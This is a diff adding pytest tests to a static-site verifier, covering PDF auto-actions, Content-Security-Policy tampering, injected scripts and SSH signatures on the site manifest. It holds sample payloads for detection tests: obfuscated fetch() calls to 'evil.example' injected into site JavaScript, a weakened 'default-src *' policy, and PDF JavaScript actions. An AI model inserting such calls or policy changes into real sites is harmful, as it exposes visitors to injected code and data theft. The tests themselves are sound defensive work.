@@ -10,10 +10,11 @@ from pathlib import Path
 
 import pikepdf
 import pytest
+from gongshilan.build.trust import trust_of
 from gongshilan.catalogue import catalogue
 from gongshilan.search.files import write_part
 from gongshilan.verify.address import read_address, resolve
-from gongshilan.verify.manifest import MANIFEST, manifest_bytes, read_manifest
+from gongshilan.verify.manifest import MANIFEST, SIGNATURE, manifest_bytes, read_manifest
 from gongshilan.verify.site import verify_site
 from hypothesis import given
 from hypothesis import strategies as st
@@ -41,7 +42,13 @@ def test_every_finding_has_a_case_and_its_sentences() -> None:
     shown = {code for case in CASES for code, _, _ in case.expect}
     by_manifest = {"manifest-missing", "manifest-broken", "file-missing", "file-extra", "file-changed"}
     texts = catalogue()
-    assert shown | by_manifest | {"link-search"} == set(texts["findings"])
+    assert shown | by_manifest | {
+        "link-search",
+        "page-policy",
+        "script-unknown",
+        "signature-missing",
+        "signature-wrong",
+    } == set(texts["findings"])
     assert not set(texts["findings"]) & set(texts["problems"])
     for code, entry in texts["findings"].items():
         assert set(entry) == {"title", "message", "expected", "fix"}, code
@@ -188,3 +195,92 @@ def test_wrong_use(tmp_path: Path, forks: Forks) -> None:
         done = forks.run("verify", path)
         assert done.returncode == 2
         assert "Traceback" not in done.stderr
+
+
+def test_a_pdf_that_does_something(tmp_path: Path) -> None:
+    site = lay_site(tmp_path / "site", {})
+    for name, put in {"open": "/OpenAction", "more": "/AA"}.items():
+        pdf = pikepdf.new()
+        pdf.add_blank_page()
+        pdf.Root[put] = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+        pdf.save(site / f"{name}.pdf", object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    pikepdf.new().save(site / "still.pdf")
+    seal(site)
+    assert found(site) == {("site-type", "open.pdf", 1), ("site-type", "more.pdf", 1)}
+
+
+# What somebody changed in a built site, file and bytes; there need be nothing wrong with it but that nobody put it there.
+CHANGED = {
+    "policy removed": ("index.html", b'http-equiv="Content-Security-Policy"', b'name="x"', "page-policy"),
+    "policy weakened": ("index.html", b"default-src &#39;none&#39;", b"default-src *", "page-policy"),
+    "another policy": (
+        "index.html",
+        b"</title>",
+        b'</title><meta http-equiv="content-security-policy" content="report-uri x">',
+        "page-policy",
+    ),
+    "script": ("assets/gsl/search.js", b"", b"fetch('https:'+'//evil.example');", "script-unknown"),
+    "search part": ("search/index.js", b"", b"fetch(['https:','evil.example'].join('//'));", "script-unknown"),
+    "new script": ("assets/gsl/new.js", b"", b"1", "script-unknown"),
+}
+
+
+@pytest.mark.build
+def test_what_was_changed_in_a_built_site_is_named(built: Path, tmp_path: Path) -> None:
+    """With the manifest made to fit, by the policy and the scripts of the theme; the search index is then read from elsewhere."""
+    trust = trust_of(built)
+    site = tmp_path / "public"
+    shutil.copytree(built / "site" / "public", site)
+    for what, (path, before, after, code) in CHANGED.items():
+        raw = (site / path).read_bytes() if (site / path).exists() else b""
+        assert before in raw, what
+        (site / path).write_bytes(raw.replace(before, after, 1) if before else raw + after)
+        seal(site)
+        assert (code, path) in {item[:2] for item in found(site, trust=trust)}, what
+        (site / path).write_bytes(raw) if raw else (site / path).unlink()
+    seal(site)
+    assert found(site, trust=trust) == set()
+
+
+@pytest.mark.build
+def test_a_signature(built: Path, tmp_path: Path, forks: Forks) -> None:
+    """Right with its key among others; none, another key, a changed manifest, a signature for something else are found."""
+    keys = [tmp_path / name for name in ("ours", "theirs")]
+    for key in keys:
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "x", "-f", key], check=True)
+    both = tmp_path / "both.pub"
+    both.write_text("# 公钥\n" + "".join(key.with_suffix(".pub").read_text() for key in keys[::-1]), encoding="utf-8")
+    site = built / "site" / "public"
+
+    def codes(key: Path, folder: Path = site) -> list[str]:
+        done = forks.run("--root", built, "verify", folder, "--format", "json", "--key", key)
+        return [item["code"] for item in json.loads(done.stdout)]
+
+    ours, theirs = (key.with_suffix(".pub") for key in keys)
+    assert codes(ours) == ["signature-missing"]
+    done = forks.run("--root", built, "publish", tmp_path / "www")
+    assert done.returncode == 0, done.stderr
+    done = forks.run("--root", built, "publish", tmp_path / "www", "--sign-key", keys[0])
+    assert done.returncode == 0, done.stderr
+    served = tmp_path / "www" / "current" / "public"
+    for folder in (site, served):
+        assert codes(ours, folder) == codes(both, folder) == []
+        assert codes(theirs, folder) == ["signature-wrong"]
+    copy = tmp_path / "copy" / "public"
+    shutil.copytree(site, copy)
+    (copy / "robots.txt").write_bytes(b"x")
+    seal(copy)
+    assert codes(ours, copy) == ["signature-wrong"]
+    other = subprocess.run(
+        ["ssh-keygen", "-q", "-Y", "sign", "-f", keys[0], "-n", "file"],
+        input=(site / MANIFEST).read_bytes(),
+        capture_output=True,
+        check=True,
+    )
+    (copy / MANIFEST).write_bytes((site / MANIFEST).read_bytes())
+    (copy / SIGNATURE).write_bytes(other.stdout)
+    assert codes(ours, copy)[0] == "signature-wrong"
+    done = forks.run("--root", built, "verify", site, "--key", keys[0])
+    assert done.returncode != 0
+    for edition in (built / "site").iterdir():
+        (edition / SIGNATURE).unlink(missing_ok=True) if edition.is_dir() else None
